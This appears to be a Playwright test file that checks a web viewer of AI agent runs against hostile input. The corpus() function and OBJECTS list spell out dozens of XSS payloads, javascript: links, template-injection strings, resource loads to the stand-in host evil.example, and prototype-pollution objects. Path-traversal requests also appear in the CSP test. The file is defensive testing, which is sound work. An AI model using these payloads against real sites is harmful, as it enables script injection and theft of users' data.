"""What models, tools and users say is untrusted: nothing in it can run, load, or leave the page."""

from __future__ import annotations

import re

import pytest

from kaname.core.events import Asked, Custom, ModelReplied, Opened, Received, Stopped, ToolFinished, ToolStarted, Warned
from kaname.core.messages import Media, Message, ModelReply, Text, Thinking, ToolCall, ToolResult
from kaname.core.steps import CallModel, Stop

from .writing import write_runs

sync_api = pytest.importorskip("playwright.sync_api", reason="no playwright: the page was NOT tried in a browser")
expect = sync_api.expect

_HIT = "window.__hit=1"
_AWAY = "https://evil.example/x"


def corpus() -> list[str]:
    """Hostile texts: elements with handlers, addresses that run, Markdown that loads, and things that look like elements."""
    tags = ["img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "details open", "object data=x",
            "embed src=x", "math", "marquee", "button autofocus", "textarea autofocus", "select autofocus", "p style=animation-name:x"]  # fmt: skip
    events = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart"]
    made = [f'<{tag} {event}="{_HIT}">' for tag in tags for event in events]
    made += [
        f"<script>{_HIT}</script>",
        f"<ScRiPt src={_AWAY}></sCrIpT>",
        f"</code></pre><script>{_HIT}</script>",
        f"'\"><script>{_HIT}//",
    ]
    made += [
        f"[click]({scheme}{_HIT})" for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,")
    ]
    made += [
        f"![a picture]({_AWAY}.png)",
        f"![x](data:image/svg+xml,<svg onload={_HIT}>)",
        f"[![x]({_AWAY}.png)](javascript:{_HIT})",
    ]
    made += [
        f"<style>@import '{_AWAY}'</style>",
        f"<link rel=stylesheet href={_AWAY}>",
        f"<base href={_AWAY}>",
        f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    ]
    made += [
        f"{{{{constructor.constructor('{_HIT}')()}}}}",
        f"${{{_HIT}}}",
        f'<a href="javascript:{_HIT}">x</a>',
        f"&lt;script&gt;{_HIT}&lt;/script&gt;",
    ]
    made += [
        f"| <img src=x onerror={_HIT}> | b |\n|---|---|\n| <svg onload={_HIT}> | c |",
        f"```html\n<script>{_HIT}</script>\n```",
        f"> <iframe src={_AWAY}>",
    ]
    made += ["\u202egnp.exe", "\x00<b>", "a" * 5000, "**" * 2000, "`" * 3000, "[" * 2000, "> " * 500, "- " * 400, "|" * 2000]
    made += [
        f"<form action={_AWAY}><button autofocus>go</button></form>",
        f"<template><img src={_AWAY}></template>",
        f"<noscript><img src={_AWAY}></noscript>",
    ]
    return made


OBJECTS = [
    {"type": "script", "props": {"children": _HIT}, "constructor": None, "__k": None},
    {
        "type": "img",
        "props": {"src": "x", "onerror": _HIT, "dangerouslySetInnerHTML": {"__html": f"<img src=x onerror={_HIT}>"}},
    },
    {"__proto__": {"dangerouslySetInnerHTML": {"__html": f"<img src=x onerror={_HIT}>"}}, "toString": "x", "constructor": "y"},
    [["<script>", _HIT], {"dangerouslySetInnerHTML": {"__html": "<b>x</b>"}}],
]
_BAD = """() => {
  const inside = document.querySelector("main");
  const bad = [...inside.querySelectorAll("script, iframe, img, object, embed, video, audio, link, meta, base, style, form[action], template, math, marquee")];
  for (const one of inside.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      if (name.startsWith("on")) bad.push(one);
      if (name === "href" && !/^(#|https?:\\/\\/|mailto:)/.test(value)) bad.push(one);
    }
  }
  return { bad: bad.map(one => one.outerHTML.slice(0, 200)), hit: window.__hit ?? null, there: location.pathname };
}"""


@pytest.fixture(scope="module")
def hostile(served):
    texts = corpus()
    assert len(texts) >= 100
    facts = [Opened(recipe={"model": texts[0], "tools": {texts[1]: "x"}, "instructions": texts[2]})]
    facts += [Received(Message("user", (Text(text), Media("image/png", name=text)))) for text in texts]
    for number, text in enumerate(texts):
        call = ToolCall(f"c{number}", text, {"value": text, text[:40]: [text]})
        parts = (Thinking(text), Text(text), call)
        facts += [ModelReplied(ModelReply(Message("assistant", parts), "tool_use", model=text), CallModel()), ToolStarted(call)]
        output = OBJECTS[number % len(OBJECTS)] if number % 3 == 0 else text
        facts.append(ToolFinished(ToolResult(output if number % 2 else None, None if number % 2 else text, call.id, text)))
        facts += [Warned(text, text), Custom(f"x{text[:30]}", {"value": text})]
    ended = [Stopped(Stop("failed", texts[3], texts[4]), OBJECTS[0])]
    listed = {
        f"h{number}": [Opened(session=text, user=text), Received(Message("user", (Text(text),))), Stopped(Stop("failed", text))]
        for number, text in enumerate(texts)
    }
    asked = [Opened(), Received(Message("user", (Text(texts[0]),))), Asked("q", texts[5], tuple(texts[6:9]))]
    write_runs(served.folder, {**listed, "hostile": [*facts, *ended], "other": [*facts[:-3], *ended], "asks": asked})
    return texts


VIEWS = (
    "#/runs",
    "#/runs/hostile",
    "#/runs/hostile?view=facts",
    "#/chat/hostile",
    "#/compare/hostile/other",
    "#/inbox",
    "#/figures",
)


def test_nothing_hostile_runs_or_loads_in_any_view(go, hostile):
    for address in VIEWS:
        page = go(address)
        expect(page.get_by_role("heading", level=1)).to_be_attached()
        page.wait_for_timeout(200)
        for summary in page.locator("details > summary").all()[:6]:
            summary.click()
        for _ in range(3):
            found = page.evaluate(_BAD)
            assert found == {"bad": [], "hit": None, "there": "/"}, address
            page.mouse.wheel(0, 6000)
            page.wait_for_timeout(50)
        assert page.locator("main").inner_text().strip(), "and it is shown"


def test_markdown_leads_nowhere_but_to_links_that_say_where(go, hostile):
    page = go("#/chat/hostile")
    expect(page.locator(".prose").first).to_be_attached()
    for link in page.locator(".prose a").all():
        assert re.match(r"https?://|mailto:", link.get_attribute("href"))


def test_the_policy_lets_nothing_else_in(api):
    answer = api.get("/")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
    assert "http:" not in policy
    assert "<script>" not in answer.text
    assert " style=" not in answer.text
    assert api.get("/page/..%2f..%2fguard.py").status_code == 404
    assert api.get("/page/../guard.py").status_code == 404
    assert api.get("/api/runs").headers["content-security-policy"].startswith("default-src 'none'; frame-ancestors")


def test_the_pages_files_are_small_and_known_again(api):
    first = api.get("/page/app.js", headers={"accept-encoding": "gzip"})
    assert first.headers["content-encoding"] == "gzip"
    assert api.get("/page/app.js", headers={"if-none-match": first.headers["etag"]}).status_code == 304
